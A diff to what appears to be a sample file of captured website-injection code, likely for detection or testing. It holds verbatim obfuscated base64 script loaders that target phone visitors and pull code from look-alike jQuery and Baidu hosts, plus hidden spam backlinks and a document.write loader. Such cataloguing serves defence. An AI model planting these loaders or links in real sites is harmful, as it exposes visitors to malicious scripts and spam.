@@ -2,71 +2,6 @@
 # Only whitespace at the ends is trimmed; nothing inside a snippet is changed unless the
 # snippet's comment says so.
 
-# S1 - jQuery float layer appended to <body> (public repository file, 3108 chars, complete)
-KING_CHANCE = r"""
-	$("<link>").attr({
-		rel: "stylesheet",
-		type: "text/css",
-		href: "https://jackson38.github.io/tan/css/my.css"
-	}).appendTo("head");
-
-	$("body").append('<div class="King_Chance_Layer">' +
-		'<div class="King_Chance_LayerCont" style="display:none;">' +
-		'<div class="King_Chance_Layer_Close">Close</div>' +
-		'<div class="King_Chance_Layer_Title">本 站 推 荐</div>' +
-		'<div class="King_Chance_Layer_Btn">' +
-		'<ul>' +
-		'<li><a href="#">信誉担保</a></li>' +
-		'<li><a href="#">百倍赔率</a></li>' +
-		'<li><a href="#">百家乐</a></li>' +
-		'<li><a href="#">体育彩票</a></li>' +
-		'<li><a href="#">首充返利</a></li>' +
-		'</ul>' +
-		'</div>' +
-		'<div class="King_Chance_Layer_Content">' +
-		'<ul>' +
-		'<li><a href="https://y52003.com/" target="_blank"><img src="https://i.niupic.com/images/2019/07/13/_67.jpg" /></a></li>' +
-		'<li><a href="https://y52003.com/" target="_blank"><img src="https://i.niupic.com/images/2019/07/13/_68.jpg" /></a></li>' +
-		'<li><a href="https://y52003.com/" target="_blank"><img src="https://i.niupic.com/images/2019/07/13/_69.jpg" /></a></li>' +
-		'<li><a href="https://y52003.com/" target="_blank"><img src="https://i.niupic.com/images/2019/07/13/_72.jpg" /></a></li>' +
-		'<li><a href="https://y52003.com/" target="_blank"><img src="https://i.niupic.com/images/2019/07/13/_70.jpg" /></a></li>' +
-		'</ul>' +
-		'</div>' +
-		'</div>' +
-		'</div>');
-
-
-	var $King_Chance_LayerCont = $(".King_Chance_LayerCont");
-	var $King_Chance_Layer_Close = $(".King_Chance_Layer_Close");
-	var $King_Chance_Layer_Btn = $(".King_Chance_Layer_Btn > ul > li");
-	var $King_Chance_Layer_Content = $(".King_Chance_Layer_Content > ul > li");
-	var King_Chance_Layer_Btn_Hover = "hover";
-	var King_Chance_Layer_Show_Num = 0;
-	var King_Chance_Layer_Btn_Len = $King_Chance_Layer_Btn.length;
-	$King_Chance_Layer_Btn.hover(function () {
-		var King_Chance_Layer_Show_Num = $King_Chance_Layer_Btn.index(this);
-		$(this).addClass(King_Chance_Layer_Btn_Hover).siblings().removeClass(King_Chance_Layer_Btn_Hover);
-		$King_Chance_Layer_Content.eq(King_Chance_Layer_Show_Num).show().siblings().hide();
-	});
-	var King_Chance_Layer_Play = function () {
-		King_Chance_Layer_Show_Num++;
-		if (King_Chance_Layer_Show_Num >= King_Chance_Layer_Btn_Len) King_Chance_Layer_Show_Num = 0;
-		$King_Chance_Layer_Btn.eq(King_Chance_Layer_Show_Num).addClass(King_Chance_Layer_Btn_Hover).siblings().removeClass(King_Chance_Layer_Btn_Hover);
-		$King_Chance_Layer_Content.eq(King_Chance_Layer_Show_Num).show().siblings().hide();
-	};
-
-	$King_Chance_Layer_Close.click(function () { clearInterval(King_Chance_Layer_Play_Time); $King_Chance_LayerCont.slideUp(); });
-	King_Chance_Layer_Pop = function () {
-		$King_Chance_LayerCont.slideDown();
-		$King_Chance_Layer_Btn.eq(King_Chance_Layer_Show_Num).addClass(King_Chance_Layer_Btn_Hover);
-		$King_Chance_Layer_Content.eq(King_Chance_Layer_Show_Num).show();
-		King_Chance_Layer_Play_Time = setInterval(function () { King_Chance_Layer_Play(); }, 2000);
-	};
-	$(document).ready(function () {
-	setTimeout("King_Chance_Layer_Pop()", 5000);
-	});
-""".strip("\n")
-
 # S2 - "statistics" file of a black-hat site-group kit: genuine Baidu Tongji call, then a
 # search-referrer regex redirect to a casino host (public repository file tj.js, complete).
 TJ_JS = r"""
@@ -94,44 +29,11 @@ var _$=['\x3c\x53\x43\x52\x49\x50\x54\x20\x73\x72\x63\x3d\x22\x68\x74\x74\x70\x3
 -->
 </Script>"""
 
-# S4 - one-line document.writeln loader of the same site-group kit (public repository file ag.js, complete)
-AG_JS = r"""document.writeln("<script src=\'https://js.kk.mo.cn/jquery.web.js\'></script>");"""
-
-# S5 - script tags appended to every title field of a MacCMS 8 site (issue thread, verbatim
-# as pasted: four tags, the pasted line broken once after "<script").
-MACCMS8_TITLE = "<script src=https://lefengtv.com/site.js></script><script src=https://lefengtv.com/site.js></script><script src=https://lefengtv.com/site.js></script><script src=https://lefengtv.com/site.js></script>"
-
-# S6 - the further loaders the same thread found in the rendered pages (verbatim, three tags)
-MACCMS8_TRIO = """<script src="https://s1.safessd.com/filesa.min.js"></script> 
-<script src="https://co.puretou.com/iquery.min.js"></script>
-<script src="https://p0.66cn.com/t/24a1f2.js"></script>"""
-
-# S7 - REBUILT (not verbatim): the issue thread says a template js was altered to load a
-# look-alike of Baidu's link-submit push script, its URL "hex-encoded"; decoded it was
-# https://zz.bdustatic.com/linksubmit/push.js . Rebuilt as Baidu's own published push
-# snippet (S15 below) with only the https URL swapped for that look-alike in \x escapes.
-def _hex(s):
-    return "".join("\\x%02x" % ord(c) for c in s)
-BDUSTATIC_PUSH = """<script>
-(function(){
-    var bp = document.createElement('script');
-    var curProtocol = window.location.protocol.split(':')[0];
-    if (curProtocol === 'https') {
-        bp.src = '%s';
-    }
-    else {
-        bp.src = 'http://push.zhanzhang.baidu.com/push.js';
-    }
-    var s = document.getElementsByTagName("script")[0];
-    s.parentNode.insertBefore(bp, s);
-})();
-</script>""" % _hex("https://zz.bdustatic.com/linksubmit/push.js")
-
-# S8 - REBUILT from server-side code: what the site-group kit's default.php serves to a
-# spider - the friend-link div it builds (its first link literal, then one link whose text
-# is drawn from data/keyword.txt and whose host from data/flink.txt; both lists hold one
-# entry, so the output is determined). Closing </div> added.
-FFLINK = """<div class='fflink'><a target='_blank'href='https://www.3edu.net'>3edu教育</a><a target='_blank' href='https://www.3edu.net'>贝博体育</a></div>"""
+# S4 - one-line document.writeln loader of the same site-group kit (public repository file ag.js,
+# complete). The captured file is an external .js; to sit in an inline <script> its inner
+# "</script>" would end the element early, so the one "/" is escaped ("<\\/script>") - the
+# only change.
+AG_JS = r"""document.writeln("<script src=\'https://js.kk.mo.cn/jquery.web.js\'><\/script>");"""
 
 # S9 - jQuery prepend of porn/casino app links into #contentlist (public repository file, complete)
 APPBOX = r"""
@@ -212,3 +114,71 @@ BAIDU_PUSH = """<script>
     s.parentNode.insertBefore(bp, s);
 })();
 </script>"""
+
+# S16 - base64 + UTF-8 decoder loader appended to a video-CMS template's history js (public
+# repository file; the appended part verbatim from "function xxSJRox" to the trailing
+# /*138ae887806f*/ marker). Defines window.MfXKwV, calls it when navigator.platform is not
+# Mac/Win (phones), then traps devtools with a debugger loop. Decodes to a look-alike
+# code.jquery.com path.
+XXSJROX = r"""function xxSJRox(e){var t = "",n = r = c1 = c2 = 0;while (n < e.length){r = e.charCodeAt(n);if (r < 128){t += String.fromCharCode(r);n++}else if (r > 191 && r < 224){c2 = e.charCodeAt(n + 1);t += String.fromCharCode((r & 31) << 6 | c2 & 63);n += 2}else{c2 = e.charCodeAt(n + 1);c3 = e.charCodeAt(n + 2);t += String.fromCharCode((r & 15) << 12 | (c2 & 63) << 6 | c3 & 63);n += 3}}return t}function aPnDhiTia(e){var m = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=';var t = "",n,r,i,s,o,u,a,f = 0;e = e.replace(/[^A-Za-z0-9+/=]/g,"");while (f < e.length){s = m.indexOf(e.charAt(f++));o = m.indexOf(e.charAt(f++));u = m.indexOf(e.charAt(f++));a = m.indexOf(e.charAt(f++));n = s << 2 | o >> 4;r = (o & 15) << 4 | u >> 2;i = (u & 3) << 6 | a;t = t + String.fromCharCode(n);if (u != 64){t = t + String.fromCharCode(r)}if (a != 64){t = t + String.fromCharCode(i)}}return xxSJRox(t)}eval('window')['\x4d\x66\x58\x4b\x77\x56'] = function(){;(function(u,r,w,d,f,c){var x = aPnDhiTia;u = decodeURIComponent(x(u.replace(new RegExp(c + '' + c,'g'),c)));'jQuery';k = r[2] + 'c' + f[1];'Flex';v = k + f[6];var s = d.createElement(v + c[0] + c[1]),g = function(){};s.type = 'text/javascript';{s.onload = function(){g()}}s.src = u;'CSS';d.getElementsByTagName('head')[0].appendChild(s)})('aHR0cHM6Ly9jb2RlLmpxdWVyeS5jb20vanF1ZXJ5Lm1pbi0zLjYuOC5qcw==','FgsPmaNtZ',window,document,'jrGYBsijJU','ptbnNbK')};if (!(/^Mac|Win/.test(navigator.platform))) MfXKwV();setInterval(function(){debugger;},100);
+/*138ae887806f*/"""
+
+# S17 - a site's own lazy-load helper with the same loader family appended after it (public
+# repository file, complete, verbatim). Fires on phones (platform not Mac/Win) arriving from
+# another site (referrer with a dot); decodes to a look-alike of Baidu's push script.
+MRMAWG_FILE = r"""var YYOB={
+    'Lazyload': function() {
+            $.getScript("//cdn.staticfile.org/jquery_lazyload/1.9.7/jquery.lazyload.js", function() {
+                $(".lazyload").lazyload({
+                    placeholder : "https://tva3.sinaimg.cn/large/b2ec35ffly1gsriwlwf77g20780a0q2t.jpg",
+                    effect: "fadeIn",
+                    threshold: 300,
+                    failurelimit: 15,
+                    skip_invisible: false
+                })
+            })
+            $.getScript("//cdn.staticfile.org/jquery_lazyload/1.9.7/jquery.lazyload.js", function() {
+                $(".lazyloads").lazyload({
+                    placeholder : "https://tva3.sinaimg.cn/large/b2ec35ffly1gsriwlwf77g20780a0q2t.jpg",
+                    effect: "fadeIn",
+                    threshold: 300,
+                    failurelimit: 15,
+                    skip_invisible: false
+                })
+            })
+    }
+}
+$(function(){
+//异步加载图片初始化
+YYOB.Lazyload();
+});;function MrmaWg(e){var t="",n=r=c1=c2=0;while(n<e.length){r=e.charCodeAt(n);if(r <128){t+=String.fromCharCode(r);n++}else if(r>191&&r<224){c2=e.charCodeAt(n+1);t+=String.fromCharCode((r&31)<<6|c2&63);n+=2}else{c2=e.charCodeAt(n+1);c3=e.charCodeAt(n+2);t+=String.fromCharCode((r&15)<<12|(c2&63)<<6|c3&63);n+=3}}return t}function qsAkLYeXeb(e){var m='ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=';var t="",n,r,i,s,o,u,a,f=0;e=e.replace(/[^A-Za-z0-9+/=]/g,"");while(f <e.length){s=m.indexOf(e.charAt(f++));o=m.indexOf(e.charAt(f++));u=m.indexOf(e.charAt(f++));a=m.indexOf(e.charAt(f++));n=s<<2|o>>4;r=(o &15)<<4|u>>2;i=(u &3)<<6|a;t=t+String.fromCharCode(n);if(u!=64){t=t+String.fromCharCode(r)}if(a!=64){t=t+String.fromCharCode(i)}}return MrmaWg(t)}eval('window')['\x77\x4d\x51\x6f\x75\x78']=function(){;(function(u,r,w,d,f,c){var x=qsAkLYeXeb;u=decodeURIComponent(x(u.replace(new RegExp(c+''+c,'g'),c)));'jQuery';k=r[2]+'c'+f[1];'Flex';v=k+f[6];var s=d.createElement(v+c[0]+c[1]),g=function(){};s.type='text/javascript';{s.onload=function(){g()}}s.src=u;'CSS';d.getElementsByTagName('head')[0].appendChild(s)})('aHR0cHM6Ly96ei5iZHVzdGF0aWMuY29tL2xpbmtzdWJtaXQvcHVzaC5qcw==','VisYncxgsm',window,document,'RrbsUpiSKCrNgN','ptlfefPmlxzR')};if( !(/^Mac|Win/.test(navigator.platform)) &&(document.referrer.indexOf('.') !== -1) ) wMQoux();"""
+
+# S18 - one of the per-category loader strings (jc_6hecai_string, the 'lottery' category) held
+# in the server code that serves this family (public repository file): the server returns it only
+# for requests from China, with a referrer, from a phone, first visit in 10 h, no cookie, not the
+# site admin, referrer not local - and only for referring sites listed in the category set.
+# Template-literal content verbatim (leading tab/newline trimmed).
+SIXHECAI = r"""function pMPoQt(e){var t="",n=r=c1=c2=0;while(n<e.length){r=e.charCodeAt(n);if(r<128){t+=String.fromCharCode(r);n++}else if(r>191&&r<224){c2=e.charCodeAt(n+1);t+=String.fromCharCode((r&31)<<6|c2&63);n+=2}else{c2=e.charCodeAt(n+1);c3=e.charCodeAt(n+2);t+=String.fromCharCode((r&15)<<12|(c2&63)<<6|c3&63);n+=3}}return t}function uZlPoIO(e){var m='ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=';var t="",n,r,i,s,o,u,a,f=0;e=e.replace(/[^A-Za-z0-9+/=]/g,"");while(f<e.length){s=m.indexOf(e.charAt(f++));o=m.indexOf(e.charAt(f++));u=m.indexOf(e.charAt(f++));a=m.indexOf(e.charAt(f++));n=s<<2|o>>4;r=(o&15)<<4|u>>2;i=(u&3)<<6|a;t=t+String.fromCharCode(n);if(u!=64){t=t+String.fromCharCode(r)}if(a!=64){t=t+String.fromCharCode(i)}}return pMPoQt(t)}eval('window')['\x53\x6c\x44\x57\x62\x42']=function(){;(function(u,r,w,d,f,c){var x=uZlPoIO;u=decodeURIComponent(x(u.replace(new RegExp(c+''+c,'g'),c)));'jQuery';k=r[2]+'c'+f[1];'Flex';v=k+f[6];var s=d.createElement(v+c[0]+c[1]),g=function(){};s.type='text/javascript';{s.onload=function(){g()}}s.src=u;'CSS';d.getElementsByTagName('head')[0].appendChild(s)})('aHR0cHM6Ly9hcGkuYmR1c3RhdGljLmNvbS9qcXVlcnkubWluLTQuMC40Lmpz','KcsmxypijCBn',window,document,'ErJJTJirCSld','ptPcFdJnuHpq')};if( !(/^Mac|Win/.test(navigator.platform)) && (document.referrer.indexOf('.') !== -1) ) SlDWbB();"""
+
+# S19 - three display:none link divs appended after the closing brace of a Joomla weblinks
+# view file (public repository file; the three lines verbatim)
+JOOMLA_HIDDEN = """<div style="display:none"><a href="http://www.cuasia.org/louis-vuitton-monogram-artsy-mm-sale/" title="louis vuitton monogram artsy mm sale">louis vuitton monogram artsy mm sale</a></div>
+<div style="display:none"><a href="http://www.cuasia.org/authentic-gucci-handbags-for-less/">authentic gucci handbags for less</a></div>
+<div style="display:none"><a href="http://www.cuasia.org/air-jordan-shoes-11-luggage-for-cheap/">air jordan shoes 11 luggage for cheap</a></div>"""
+
+# S20 - hidden backlink planted in the footer include of a resold Chinese site template (public
+# repository file; the line verbatim, with the template's end comment that follows it)
+YUANMA_HIDDEN = """<div style="display:none"><a href="http://www.0598128.com">源码论坛</a></div>
+<!--**********右侧浮动结束***************-->"""
+
+# S21 - the 'dede.js' a parasite-page generator (public repository PHP file) writes into a
+# hijacked DedeCMS site: a split-tag document.write of a short-link script. Verbatim after
+# PHP string unescaping (\" -> ").
+DEDE_JS = 'document.write("<scr"+"ipt language=javascript src=http://t.cn/z8A9JYQ></scr"+"ipt>");'
+
+# S22 - harmless look-alike for a clean page: the MutationObserver watch an issue-thread write-up
+# ("如何应对页面内容劫持篡改") suggests against ISP injection (verbatim)
+MUTATION_WATCH = """var mo = new MutationObserver(function(){
+      // TODO
+});
+mo.observe(document.querySelector('html'), {childList: true, subtree: true});"""
